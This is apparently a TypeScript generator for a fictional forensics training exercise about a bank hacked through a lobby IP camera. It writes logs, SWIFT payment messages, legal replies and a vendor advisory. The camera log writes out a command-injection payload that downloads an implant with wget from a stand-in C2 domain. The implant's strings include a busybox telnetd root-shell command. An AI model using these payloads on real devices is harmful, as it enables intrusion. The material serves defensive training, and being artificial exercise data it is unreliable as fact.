import { fileURLToPath } from 'node:url';
import { writePdf, writePng } from './lib/documents.ts';
import { PackageWriter, sha256Hex } from './lib/files.ts';
import { csv, squidLine, syslogLine } from './lib/logs.ts';
import { PackageRandom, isoOf, unix } from './lib/random.ts';
import { VariableSet } from './lib/variables.ts';

// Operation Still Frame (scenarios/bank-webcam-attack): the evidence files and
// the variables of scenario.yaml. The story's clock (all UTC; the bank is in
// Vienna, UTC+1 in March; the lobby camera's clock is set to local time):
//
//   2026-03-01 18:00–20:00  the operator logs in to the first hosting account (Nordhost)
//   2026-03-02 01:40–02:20  the lobby camera is exploited from a scanning host, fetches its
//                           implant from the first command-and-control server (C2-A) and
//                           its logs are wiped
//   2026-03-03 07:30–08:30  the payment workstation PAY-WS07 starts beaconing to C2-B
//                           through the proxy, at a regular interval
//   2026-03-05 22:20–22:40  the operator logs in to the second hosting account (Cloudarc)
//   + 30–50 min             three fraudulent MT103 transfers leave from PAY-WS07
//   2026-03-06 06:00–       the main money mule's account is credited and emptied
//   2026-03-09 09:00        start of the exercise
//
// Fixed values come from the package seed below; per-team values are variables.

export const packageDir = fileURLToPath(new URL('../../scenarios/bank-webcam-attack/', import.meta.url));
const SEED = 'cybercap/bank-webcam-attack/1';

const CAMERA_IP = '10.40.8.21';
const NVR_IP = '10.40.8.5';
const RESOLVER = 'dns01';
const PROXY = 'proxy01';
const BANK_BIC = 'KSPBATWWXXX';
const BANK_NAME = 'Kessler Privatbank AG';
/** The beneficiary banks of the three transfers (fictional, BIC format ISO 9362). */
const MULE_BANKS = [
  { bic: 'BMRDPTPLXXX', name: 'Banco Meridional SA', city: 'LISBOA' },
  { bic: 'CRVLROBUXXX', name: 'Carvel Bank Romania SA', city: 'BUCURESTI' },
  { bic: 'MORVCZPPXXX', name: 'Moravia Banka a.s.', city: 'PRAHA' },
] as const;
export const BEACONS = 14;
/** Seconds of jitter of each beacon, as the implant adds them (0–2 s). */
const JITTER = [0, 1, 0, 2, 1, 0, 1, 2, 0, 1, 1, 0, 2, 1];

export function buildBankWebcamAttack(dir = packageDir): { writer: PackageWriter; vars: VariableSet } {
  const r = new PackageRandom(SEED);
  const vars = new VariableSet();
  const writer = new PackageWriter(dir);
  const v = (name: string) => vars.ref(name);

  // --- Infrastructure and people
  vars.define('scan_ip', { generator: 'ipv4' }, 'the host that exploited the camera');
  vars.define('c2a_domain', { generator: 'domain', params: { tld: 'net' } }, 'first command-and-control server (implant download)');
  vars.define('c2a_ip', { generator: 'ipv4' }, 'its address (Nordhost)');
  vars.define('c2b_domain', { generator: 'domain', params: { tld: 'com' } }, 'second command-and-control server (beacons)');
  vars.define('c2b_ip', { generator: 'ipv4' }, 'its address (Cloudarc)');
  vars.define('ws_subnet', { generator: 'integer', params: { min: 2, max: 9 } }, 'PAY-WS07 is 10.20.<ws_subnet>.<ws_octet>');
  vars.define('ws_octet', { generator: 'integer', params: { min: 20, max: 199 } });
  const wsIp = `10.20.${v('ws_subnet')}.${v('ws_octet')}`;
  vars.define('ops_no', { generator: 'integer', params: { min: 12000, max: 19999 } }, 'the payment operator account abused is u<ops_no>');
  vars.define('operator_email', { generator: 'email', params: { domain: 'securemail.example' } }, 'the e-mail of both hosting accounts');
  vars.define('operator_ip', { generator: 'ipv4' }, 'the IP address the hosting accounts were managed from');
  vars.define('suspect_name', { generator: 'person_name' });
  vars.define('alias_a', { generator: 'person_name' }, 'false name given to Nordhost');
  vars.define('alias_b', { generator: 'person_name' }, 'false name given to Cloudarc');
  for (const [i, country] of (['PT', 'RO', 'CZ'] as const).entries()) {
    vars.define(`mule${i + 1}_iban`, { generator: 'iban', params: { country } });
    vars.define(`mule${i + 1}_name`, { generator: 'person_name' });
  }
  vars.define('layer2_iban', { generator: 'iban', params: { country: 'AE' } }, 'the next layer: the main mule forwards most of the money here');
  vars.define('layer2_name', { generator: 'company_name' });

  // --- The clock
  vars.define('exploit_time', { generator: 'timestamp', params: { start: '2026-03-02T01:40:00Z', end: '2026-03-02T02:20:00Z' } }, 'the camera\'s authentication is bypassed');
  const cameraStep = (name: string, seconds: number, comment?: string) => {
    vars.sum(`${name}_local`, ['exploit_time', seconds], { format: 'iso', utcOffset: '+01:00' }, comment);
  };
  cameraStep('probe', -7);
  cameraStep('exploit', 0);
  cameraStep('implant', 41, 'the implant is downloaded from C2-A (camera clock, UTC+1)');
  cameraStep('implant_run', 44);
  cameraStep('telnet_on', 52);
  cameraStep('log_wipe', 66);
  vars.sum('implant_utc', ['exploit_time', 41], { format: 'iso' }, 'the same, in UTC');
  vars.sum('dns_c2a', ['exploit_time', 40], { format: 'iso' });
  vars.define('hoster_login_a', { generator: 'timestamp', params: { start: '2026-03-01T18:00:00Z', end: '2026-03-01T20:00:00Z' } });
  vars.define('beacon_start', { generator: 'timestamp', params: { start: '2026-03-03T07:30:00Z', end: '2026-03-03T08:30:00Z' } });
  vars.define('beacon_interval', { generator: 'integer', params: { min: 180, max: 600 } }, 'seconds between two beacons (the implant adds 0–2 s of jitter)');
  vars.sum('dns_c2b', ['beacon_start', -1], { format: 'iso' });
  for (let k = 0; k < BEACONS; k++) vars.sum(`beacon_${k}`, ['beacon_start', ...Array<string>(k).fill('beacon_interval'), JITTER[k]!], { format: 'unix' });
  vars.define('hoster_login_b', { generator: 'timestamp', params: { start: '2026-03-05T22:20:00Z', end: '2026-03-05T22:40:00Z' } }, 'last login to Cloudarc, just before the transfers');
  vars.sum('fraud_1', ['hoster_login_b', 1931], { format: 'iso' });
  vars.sum('fraud_2', ['hoster_login_b', 2148], { format: 'iso' });
  vars.sum('fraud_3', ['hoster_login_b', 2419], { format: 'iso' });

  // --- The money (EUR)
  vars.define('amount_1', { generator: 'amount', params: { min: 180000, max: 240000, decimals: 0 } }, 'to the main mule (Banco Meridional)');
  vars.define('amount_2', { generator: 'amount', params: { min: 90000, max: 140000, decimals: 0 } });
  vars.define('amount_3', { generator: 'amount', params: { min: 40000, max: 80000, decimals: 0 } });
  vars.sum('fraud_total', ['amount_1', 'amount_2', 'amount_3'], { decimals: 2 }, 'the loss');
  vars.define('opening_balance', { generator: 'amount', params: { min: 120, max: 900, decimals: 2 } }, 'the main mule\'s balance before the credit');
  vars.define('forward_main', { generator: 'amount', params: { min: 150000, max: 170000, decimals: 2 } }, 'onward transfer to the next layer');
  vars.define('forward_crypto', { generator: 'amount', params: { min: 9000, max: 14000, decimals: 2 } }, 'card payment to a crypto exchange');
  const statement = [
    { key: 'bal_0', terms: ['opening_balance'] },
    { key: 'bal_1', terms: ['bal_0', 'amount_1'] },
    { key: 'bal_2', terms: ['bal_1', '-forward_main'] },
    { key: 'bal_3', terms: ['bal_2', '-15.00'] },
    { key: 'bal_4', terms: ['bal_3', '-forward_crypto'] },
    { key: 'bal_5', terms: ['bal_4', '-2000.00'] },
    { key: 'bal_6', terms: ['bal_5', '-2000.00'] },
    { key: 'bal_7', terms: ['bal_6', '-1500.00'] },
  ];
  for (const s of statement) vars.sum(s.key, s.terms, { decimals: 2 });
  vars.sum('mule_debits', ['forward_main', '15.00', 'forward_crypto', '2000.00', '2000.00', '1500.00'], { decimals: 2 }, 'what left the main mule account after the credit');

  // --- The camera's log, as the bank's central syslog server received it (camera clock UTC+1)
  const implant = implantBinary(r);
  const implantHash = sha256Hex(implant);
  const camera: Array<[string, string]> = [];
  const cam = (time: string, program: string, message: string) => camera.push([time, `${time} ipcam-lobby ${program}: ${message}`]);
  const localOf = (seconds: number) => isoOf(seconds + 3600).replace('Z', '+01:00');
  for (let day = 0; day < 2; day++) {
    const base = unix('2026-03-01T06:00:00Z') + day * 86400;
    cam(localOf(base + 12), 'ntpd[233]', 'time synchronised with 10.40.0.1, offset +0.021 s');
    for (let i = 0; i < 6; i++) {
      const t = base + r.int('cam', 600, 13 * 3600);
      cam(localOf(t), 'motiond[301]', `motion detected in zone "entrance" (score ${r.int('cam', 41, 97)})`);
    }
    cam(localOf(base + 2 * 3600 + 5), `rtspd[288]`, `session opened by ${NVR_IP} (admin) stream=main`);
  }
  cam(localOf(unix('2026-03-01T23:15:02Z')), 'rtspd[288]', `session closed by ${NVR_IP} (timeout)`);
  const localVar = (name: string) => v(`${name}_local`);
  // The attack's lines fall between 02:40 and 03:21 camera time for every team, when the fixed lines are silent.
  const night = '2026-03-02T03:00:00+01:00';
  camera.push(
    [`${night}a`, `${localVar('probe')} ipcam-lobby httpd[412]: GET /cgi-bin/check_user.cgi?user=admin&pwd= HTTP/1.1 from ${v('scan_ip')} -> 200 (auth=admin)`],
    [`${night}b`, `${localVar('exploit')} ipcam-lobby httpd[412]: POST /cgi-bin/param.cgi?action=update&group=NTP HTTP/1.1 from ${v('scan_ip')} -> 200 (server="$(wget -q http://${v('c2a_domain')}/u/lp.arm -O /tmp/.lp)")`],
    [`${night}c`, `${localVar('implant')} ipcam-lobby fsmon[240]: new file /tmp/.lp size=${implant.length} sha256=${implantHash}`],
    [`${night}d`, `${localVar('implant_run')} ipcam-lobby kernel: process 1337 (.lp) started by httpd[412], uid 0`],
    [`${night}e`, `${localVar('telnet_on')} ipcam-lobby cfgd[219]: parameter Network.Telnet.Enabled changed 0 -> 1 (persisted to flash)`],
    [`${night}f`, `${localVar('log_wipe')} ipcam-lobby syslogd[201]: /var/log/messages truncated to 0 bytes by pid 1337; remote copy continues`],
  );
  for (let i = 0; i < 5; i++) cam(localOf(unix('2026-03-02T06:30:00Z') + i * 4000 + r.int('cam', 0, 900)), 'motiond[301]', `motion detected in zone "entrance" (score ${r.int('cam', 41, 97)})`);
  camera.sort((a, b) => a[0].localeCompare(b[0]));
  writer.add('evidence/camera/ipcam-lobby-syslog.log', `${camera.map((l) => l[1]).join('\n')}\n`);

  // --- The internal resolver (dnsmasq, UTC). Fixed lines stay out of the hours
  // where the per-team lines fall, so the log is in time order for every team.
  const dns: Array<[string, string]> = [];
  const dnsLine = (time: string, message: string) => syslogLine(time, RESOLVER, 'dnsmasq', 812, message);
  const normal = ['www.kessler-privatbank.example', 'login.microsoftonline.com', 'swift-alliance.kessler.internal', 'update.lenspro-cameras.example', 'time.windows.com', 'ocsp.digicert.com', 'teams.microsoft.com', 'www.ecb.europa.eu'];
  const clients = ['10.20.5.11', '10.20.5.14', '10.20.7.210', '10.20.7.244', '10.30.1.9', '10.20.5.233'];
  const windows = [
    [unix('2026-03-02T01:35:00Z'), unix('2026-03-02T02:25:00Z')],
    [unix('2026-03-03T07:25:00Z'), unix('2026-03-03T08:35:00Z')],
  ] as const;
  for (let i = 0; i < 46; i++) {
    let t = r.int('dns', unix('2026-03-02T00:30:00Z'), unix('2026-03-03T10:30:00Z'));
    while (windows.some(([a, b]) => t >= a && t <= b)) t = r.int('dns', unix('2026-03-02T00:30:00Z'), unix('2026-03-03T10:30:00Z'));
    const name = r.pick('dns', normal);
    const client = r.pick('dns', clients);
    const key = isoOf(t);
    dns.push([`${key}a`, dnsLine(key, `query[A] ${name} from ${client}`)], [`${key}b`, dnsLine(key, `reply ${name} is ${name.endsWith('.internal') ? '10.20.1.40' : r.docIp('dns')}`)]);
  }
  dns.push(
    [`${isoOf(windows[0][0])}a`, dnsLine(v('dns_c2a'), `query[A] ${v('c2a_domain')} from ${CAMERA_IP}`)],
    [`${isoOf(windows[0][0])}b`, dnsLine(v('dns_c2a'), `reply ${v('c2a_domain')} is ${v('c2a_ip')}`)],
    [`${isoOf(windows[1][0])}a`, dnsLine(v('dns_c2b'), `query[A] ${v('c2b_domain')} from ${wsIp}`)],
    [`${isoOf(windows[1][0])}b`, dnsLine(v('dns_c2b'), `reply ${v('c2b_domain')} is ${v('c2b_ip')}`)],
  );
  dns.sort((a, b) => a[0].localeCompare(b[0]));
  writer.add('evidence/network/dns-resolver.log', `${dns.map(([, l]) => l).join('\n')}\n`);

  // --- The proxy (Squid native access.log; unix times, UTC). The other users'
  // requests are timed from the beacons, so that the lines stay in order.
  const proxy: string[] = [];
  const sites = ['www.ecb.europa.eu/stats/', 'login.microsoftonline.com:443', 'teams.microsoft.com:443', 'www.reuters.example/markets/', 'outlook.office365.com:443', 'www.oenb.example/statistik/'];
  const staff = ['10.20.5.11', '10.20.5.14', '10.20.7.210', '10.20.7.244'];
  const ms = () => String(r.int('proxy', 0, 999)).padStart(3, '0');
  const other = (time: string) => {
    const site = r.pick('proxy', sites);
    const https = site.endsWith(':443');
    proxy.push(squidLine(`${time}.${ms()}`, r.int('proxy', 20, 900), r.pick('proxy', staff), https ? 'TCP_TUNNEL/200' : 'TCP_MISS/200', r.int('proxy', 900, 90000), https ? 'CONNECT' : 'GET', https ? site : `http://${site}`, '-', `HIER_DIRECT/${r.docIp('proxy')}`, https ? '-' : 'text/html'));
  };
  let n = 0;
  for (const offset of [-1500, -1130, -820, -415, -96]) other(vars.sum(`proxy_${n++}`, ['beacon_start', offset], { format: 'unix' }));
  for (let k = 0; k < BEACONS; k++) {
    proxy.push(squidLine(`${v(`beacon_${k}`)}.${ms()}`, r.int('beacon', 180, 420), wsIp, 'TCP_TUNNEL/200', r.int('beacon', 4100, 4600), 'CONNECT', `${v('c2b_domain')}:443`, '-', `HIER_DIRECT/${v('c2b_ip')}`, '-'));
    // The shortest interval is 180 s and a beacon is at most 2 s late.
    const offsets = Array.from({ length: r.int('proxy', 1, 3) }, () => r.int('proxy', 4, 170)).sort((a, b) => a - b);
    for (const offset of [...new Set(offsets)]) other(vars.sum(`proxy_${n++}`, [`beacon_${k}`, offset], { format: 'unix' }));
  }
  writer.add('evidence/network/proxy-access.log', `${proxy.join('\n')}\n`);

  // --- The payment messages (SWIFT Alliance export: MT103 in FIN text blocks)
  const mt = (m: { ref: string; created: string; operator: string; workstation: string; valueDate: string; amount: string; orderer: string[]; beneficiaryBic: string; beneficiary: string[]; remittance: string; mir: string }) =>
    [
      `=== Message ${m.ref} | created ${m.created} | operator ${m.operator} | workstation ${m.workstation} | status ACKED`,
      `{1:F01${BANK_BIC.slice(0, 8)}AXXX${m.mir}}{2:I103${m.beneficiaryBic.slice(0, 8)}X${m.beneficiaryBic.slice(8)}N}{3:{108:${m.ref.slice(-16)}}{121:${uuid(r)}}}{4:`,
      `:20:${m.ref}`,
      ':23B:CRED',
      `:32A:${m.valueDate}EUR${m.amount}`,
      ':50K:/AT611904300234573201',
      ...m.orderer,
      `:52A:${BANK_BIC}`,
      `:57A:${m.beneficiaryBic}`,
      ...m.beneficiary,
      `:70:${m.remittance}`,
      ':71A:SHA',
      '-}',
      '',
    ].join('\n');
  const orderer = ['KESSLER PRIVATBANK AG', 'NOSTRO SETTLEMENT', 'WIEN'];
  const legit = [
    { created: '2026-03-05T08:41:12Z', op: 'u10233', ws: 'PAY-WS02 (10.20.5.11)', bic: 'DEUTDEFFXXX', iban: 'DE89370400440532013000', name: 'HELVION SUPPLIES GMBH', city: 'FRANKFURT', amount: '48210,00', rem: 'INV 2026-0212' },
    { created: '2026-03-05T10:17:55Z', op: 'u11871', ws: 'PAY-WS03 (10.20.5.14)', bic: 'BNPAFRPPXXX', iban: 'FR1420041010050500013M02606', name: 'ATELIERS MARCEAU SARL', city: 'PARIS', amount: '12950,40', rem: 'CONTRACT 88-114 Q1' },
  ];
  const messages: string[] = [];
  for (const l of legit) {
    messages.push(mt({ ref: `KPB${r.hex('ref', 13, true)}`, created: l.created, operator: l.op, workstation: l.ws, valueDate: '260305', amount: l.amount, orderer, beneficiaryBic: l.bic, beneficiary: [`:59:/${l.iban}`, l.name, l.city], remittance: l.rem, mir: r.hex('mir', 10).replace(/[a-f]/g, '7') }));
  }
  const frauds = [
    { time: 'fraud_1', amount: 'amount_1', n: 1, rem: 'ADVANCE PAYMENT CONTRACT 2026/03-17' },
    { time: 'fraud_2', amount: 'amount_2', n: 2, rem: 'CONSULTING SERVICES FEB 2026' },
    { time: 'fraud_3', amount: 'amount_3', n: 3, rem: 'REFUND OVERPAYMENT' },
  ];
  for (const f of frauds) {
    const bank = MULE_BANKS[f.n - 1]!;
    messages.push(
      mt({
        ref: `KPB${r.hex('ref', 13, true)}`,
        created: v(f.time),
        operator: `u${v('ops_no')}`,
        workstation: `PAY-WS07 (${wsIp})`,
        valueDate: '260306',
        amount: `{{ ${f.amount} }},`,
        orderer,
        beneficiaryBic: bank.bic,
        beneficiary: [`:59:/${v(`mule${f.n}_iban`)}`, `${vars.ref(`mule${f.n}_name`, 'upper')}`, bank.city],
        remittance: f.rem,
        mir: r.hex('mir', 10).replace(/[a-f]/g, '3'),
      }),
    );
  }
  writer.add(
    'evidence/payments/swift-mt103-export.txt',
    [
      `SWIFT Alliance Access - message export - ${BANK_NAME} (${BANK_BIC})`,
      'Messages: MT103 sent 2026-03-05 (times UTC). In field 32A the amount has a comma as decimal separator (SWIFT FIN).',
      '',
      messages.join('\n'),
    ].join('\n'),
  );

  // --- Legal replies
  writer.add(
    'evidence/legal/nordhost-subscriber-reply.txt',
    [
      'NORDHOST B.V. - LAW ENFORCEMENT DISCLOSURE',
      `Our reference: NH-LE-2026-${r.int('ref', 1000, 9999)}`,
      '',
      `Request: subscriber information for IP address ${v('c2a_ip')} on ${v('implant_utc')} (UTC).`,
      '',
      `At that time ${v('c2a_ip')} was assigned to virtual server vps-${r.hex('vps', 6)} (Amsterdam, AMS-2).`,
      '',
      `  Customer name:   ${v('alias_a')}`,
      `  Customer e-mail: ${v('operator_email')}`,
      '  Address given:   Hauptstrasse 1, 1010 Wien (not verified)',
      '  Payment:         prepaid, cryptocurrency (Monero)',
      '  Account created: 2026-02-20T21:14:09Z',
      '',
      'Control panel logins (UTC):',
      `  2026-02-20T21:14:09Z  ${r.docIp('host')}  (Tor exit relay)`,
      `  ${v('hoster_login_a')}  ${v('operator_ip')}`,
      '',
      'We have suspended the server and preserved its disk image for 90 days.',
      '',
    ].join('\n'),
  );
  writer.add(
    'evidence/legal/cloudarc-subscriber-reply.json',
    `${JSON.stringify(
      {
        provider: 'Cloudarc LLC',
        reference: `CA-LER-${r.int('ref', 100000, 999999)}`,
        request: { ip: '{{ c2b_ip }}' },
        instance: { id: `i-${r.hex('vps', 12)}`, region: 'us-east-2', public_ip: '{{ c2b_ip }}', created_utc: '2026-02-26T17:02:44Z', terminated_utc: null },
        account: { id: `acct-${r.int('ref', 1000000, 9999999)}`, name: '{{ alias_b }}', email: '{{ operator_email }}', phone: null, billing: 'prepaid card, issuer declined to identify' },
        logins: [
          { time_utc: '2026-02-26T16:58:31Z', ip: r.docIp('host'), user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0' },
          { time_utc: '{{ hoster_login_b }}', ip: '{{ operator_ip }}', user_agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0' },
        ],
        note: 'Times UTC. Content of the instance is not disclosed without a court order from a US court (MLAT).',
      },
      null,
      2,
    )}\n`,
  );
  const rows: Array<Array<string>> = [
    ['2026-03-01', '2026-03-01', 'Opening balance', '', '', '', v('bal_0')],
    ['2026-03-06', '2026-03-06', 'SEPA/SWIFT credit', `${BANK_NAME} / ADVANCE PAYMENT CONTRACT 2026/03-17`, BANK_BIC, `${v('amount_1')}.00`, v('bal_1')],
    ['2026-03-06', '2026-03-06', 'Outgoing transfer (online banking)', `${v('layer2_name')} / ${v('layer2_iban')}`, 'EMRLAEADXXX', `-${v('forward_main')}`, v('bal_2')],
    ['2026-03-06', '2026-03-06', 'Fee outgoing transfer non-SEPA', '', '', '-15.00', v('bal_3')],
    ['2026-03-06', '2026-03-07', 'Card payment', 'COINVAULT EXCHANGE / VILNIUS', '', `-${v('forward_crypto')}`, v('bal_4')],
    ['2026-03-07', '2026-03-07', 'Cash withdrawal ATM', 'ATM 0412 LISBOA ROSSIO', '', '-2000.00', v('bal_5')],
    ['2026-03-07', '2026-03-07', 'Cash withdrawal ATM', 'ATM 0877 LISBOA ALCANTARA', '', '-2000.00', v('bal_6')],
    ['2026-03-08', '2026-03-08', 'Cash withdrawal ATM', 'ATM 0412 LISBOA ROSSIO', '', '-1500.00', v('bal_7')],
  ];
  writer.add(
    'evidence/legal/meridional-account-statement.csv',
    `# Banco Meridional SA - account statement produced on order ${`BM/JUR/2026/${r.int('ref', 100, 999)}`}\n# Account: ${v('mule1_iban')} | Holder: ${v('mule1_name')} | Opened: 2026-02-11 (online, video identification) | Currency: EUR\n${csv(['booking_date', 'value_date', 'type', 'counterparty', 'counterparty_bic', 'amount_eur', 'balance_eur'], rows)}`,
  );
  writer.add(
    'evidence/legal/police-24-7-reply.txt',
    [
      'NATIONAL POLICE - CYBERCRIME DEPARTMENT - 24/7 POINT OF CONTACT (Budapest Convention art. 35)',
      `Reply to mutual legal assistance request, our file CY-24/7-${r.int('ref', 1000, 9999)}`,
      '',
      `1. The IP address ${v('operator_ip')} belongs to a residential fibre line of a national provider.`,
      `2. On ${v('hoster_login_b')} (UTC) it was assigned to the subscriber:`,
      `     Name:  ${v('suspect_name')}`,
      '3. The subscriber has been known to us since 2024 for selling access to compromised devices on a forum.',
      '4. Traffic data of the line have been preserved. A search can be carried out on a request for mutual assistance naming the offences.',
      '',
    ].join('\n'),
  );

  // --- Fixed documents: the vendor's advisory (PDF), the camera as found (PNG), the implant (binary)
  writer.add(
    'evidence/camera/lenspro-advisory-2026-01.pdf',
    writePdf(
      [
        [
          'LensPro Security Advisory LP-SA-2026-01',
          'Published: 2026-01-14',
          'Products: LensPro IPC-220 and IPC-240 IP cameras, firmware 3.4.7 and earlier',
          'Severity: critical (CVSS 3.1 base score 9.8)',
          '',
          '1. Authentication bypass: /cgi-bin/check_user.cgi accepts an empty password',
          '   for the account "admin" when the request comes from the network.',
          '2. Command injection: the "server" field of /cgi-bin/param.cgi (group NTP)',
          '   is passed to a shell; any command runs as root.',
          '',
          'Fixed in firmware 3.4.9. Until updated, do not expose the web interface',
          'to the internet and place cameras in a separate network segment.',
        ],
        ['Indicators of exploitation', '- GET /cgi-bin/check_user.cgi?user=admin&pwd= from an external address', '- POST /cgi-bin/param.cgi with "$(" in a parameter', '- Network.Telnet.Enabled changed to 1', '- new executable files in /tmp'],
      ],
      'LensPro LP-SA-2026-01',
    ),
  );
  // A wall-mounted camera: the bracket, the white housing, the dark lens and its red activity light.
  writer.add(
    'evidence/camera/ipcam-lobby-photo.png',
    writePng(96, 64, (x, y) => {
      const lens = (x - 48) ** 2 + (y - 34) ** 2;
      if (lens <= 36) return lens <= 9 ? [60, 70, 95] : [18, 18, 22];
      if ((x - 62) ** 2 + (y - 24) ** 2 <= 2) return [220, 30, 30];
      if (x >= 30 && x <= 66 && y >= 18 && y <= 50) return [232, 232, 228];
      if (x >= 44 && x <= 52 && y < 18) return [150, 150, 150];
      return [70 + (y >> 1), 86 + (x >> 2), 104];
    }),
  );
  writer.add('evidence/camera/implant-lp.bin', implant);
  return { writer, vars };
}

/** A small ARM ELF executable as recovered from the camera's memory: the header, code-looking bytes and the implant's strings. */
function implantBinary(r: PackageRandom): Uint8Array {
  const head = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x28, 0, 1, 0, 0, 0]);
  const strings = Buffer.from('\0/tmp/.lp\0/bin/busybox telnetd -p 2323 -l /bin/sh\0/var/log/messages\0%s/u/cfg?id=%08x\0User-Agent: Mozilla/5.0 (compatible)\0beacon\0sleep\0', 'latin1');
  return new Uint8Array(Buffer.concat([head, Buffer.from(r.rng('implant').bytes(2600)), strings, Buffer.from(r.rng('implant').bytes(900))]));
}

/** A random UUID (version 4 form) from the package's seed, for field 121 (UETR). */
function uuid(r: PackageRandom): string {
  const h = r.hex('uetr', 32);
  return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20)}`;
}

